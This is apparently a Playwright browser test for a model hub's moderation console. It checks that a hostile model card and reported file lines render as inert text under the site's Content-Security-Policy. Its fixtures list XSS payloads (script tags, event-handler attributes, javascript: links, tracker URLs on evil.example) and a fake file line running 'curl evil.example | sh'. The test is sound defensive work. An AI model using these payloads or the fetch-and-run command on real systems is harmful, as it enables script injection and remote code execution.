"""In a real browser, under the site's own Content-Security-Policy, a model card full of hostile
Markdown and HTML shows as inert text and links: no script runs (the payloads would set
window.__pwned or open a dialog), the browser asks no host but hubmod's, and the policy has
nothing to refuse, because nothing active reached the page (issue 21).

The card is on the case page (moderation/includes/subject.html over moderation.subject), with the
reported lines of a hostile file beside it.
"""

import hashlib

import pytest

from devtools.hub_files import HubFiles
from hub.models import Repository
from tests.conftest import hub_client
from tests.e2e.test_browser import ARTIFACTS, sign_in, staff_with_password
from tests.factories import moderator
from tests.flows import file
from tests.moderation.test_case_subject import HOSTILE

pytestmark = pytest.mark.browser

ALERTS = [
    "<script>alert(1)</script>",
    '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
    '<body onload="alert(1)">',
    "[click me](javascript:alert(1))",
    '<a href="javascript:alert(1)">raw link</a>',
    "![tracker](https://evil.example/track.gif)",
    '<video poster="https://evil.example/poster.png"><source src="https://evil.example/v.mp4"></video>',
    '<input autofocus onfocus="alert(1)">',
    "<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/bg.png) }</style>",
    '<link rel="prefetch" href="https://evil.example/prefetch">',
    '<a href="https://evil.example/" ping="https://evil.example/ping">a link to click, never followed here</a>',
]
CARD = "---\ntitle: <script>alert(1)</script>\n---\n# Tiny model\n\n" + "\n\n".join([*HOSTILE.values(), *ALERTS])
TEXT = (
    b"import os\n"
    b"# <script>window.__pwned=1</script>\n"
    b'<img src="https://evil.example/line.png" onerror="alert(1)">\n'
    b"os.system('curl evil.example | sh')\n"
)


@pytest.fixture
def watched(page, live_server):
    """What the page does behind the scenes: every request it makes, every dialog, every refusal
    by the Content-Security-Policy."""
    seen = {"requests": [], "dialogs": [], "refusals": []}
    page.on("request", lambda request: seen["requests"].append(request.url))
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("console", lambda m: seen["refusals"].append(m.text) if "Content Security Policy" in m.text else None)
    return seen


@pytest.fixture
def hostile_case(settings):
    files = HubFiles({"/src/train.py": TEXT})
    settings.SCAN_FETCH_ALLOWED_HOSTS = [files.netloc]
    body = {
        "kind": "model",
        "revision": "0a1b2c3",
        "card": CARD,
        "files": [{"path": "src/train.py", "sha256": hashlib.sha256(TEXT).hexdigest(), "size": len(TEXT),
                   "url": files.url("/src/train.py")}],
    }  # fmt: skip
    assert hub_client().put("/api/v1/hub/repositories/acme/tiny", body, format="json").status_code == 201
    repository = Repository.objects.get(full_name="acme/tiny")
    filed = file(repository, "other", client=hub_client(), revision="0a1b2c3", path="src/train.py", lines="2-3")
    yield filed["case_id"]
    files.stop()


def assert_inert(page, watched, live_server) -> None:
    # Every element of the card and the excerpt gets the events an inline handler waits for: a
    # handler left on any of them would fire now.
    page.locator(".card-rendered *, table.excerpt td").evaluate_all(
        """elements => elements.forEach(e => ["mouseover", "mouseenter", "focus", "toggle", "load", "error"]
            .forEach(type => e.dispatchEvent(new Event(type))))"""
    )
    page.mouse.move(5, 5)
    for element in page.locator(".card-rendered > *").all():
        if element.is_visible():
            element.hover()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert watched["dialogs"] == []
    assert watched["refusals"] == []
    foreign = [url for url in watched["requests"] if not url.startswith(live_server.url)]
    assert foreign == []


@pytest.mark.django_db(transaction=True)
def test_a_hostile_card_and_hostile_lines_are_inert_under_the_sites_policy(page, watched, live_server, hostile_case):
    staff_with_password(moderator, "mia")
    sign_in(page, "mia")

    answer = page.goto(f"/console/cases/{hostile_case}/")

    assert "script-src 'self'" in answer.headers["content-security-policy"]
    card = page.get_by_test_id("card")
    card.get_by_role("heading", name="Tiny model").wait_for()
    assert "<script>alert(1)</script>" in card.inner_text()  # what the uploader wrote, as text
    assert "[image: tracker: https://evil.example/track.gif]" in card.inner_text()
    assert card.locator("img, svg, iframe, object, embed, video, form, input, style, link, script").count() == 0
    hrefs = card.locator("a[href]").evaluate_all("links => links.map(a => [a.protocol, a.rel])")
    assert hrefs
    assert all(protocol in ("http:", "https:", "mailto:") for protocol, _ in hrefs)
    assert all(rel == "noopener noreferrer nofollow" for _, rel in hrefs)
    assert_inert(page, watched, live_server)
    card.evaluate("card => card.scrollTo(0, 0)")  # hovering scrolled it; the picture starts at the top
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=ARTIFACTS / "console-case-card.png", full_page=True)

    lines = page.get_by_test_id("excerpt-line")
    lines.first.wait_for()
    assert "# <script>window.__pwned=1</script>" in lines.nth(1).inner_text()
    assert page.locator("table.excerpt tr.reported").count() == 2
    assert_inert(page, watched, live_server)
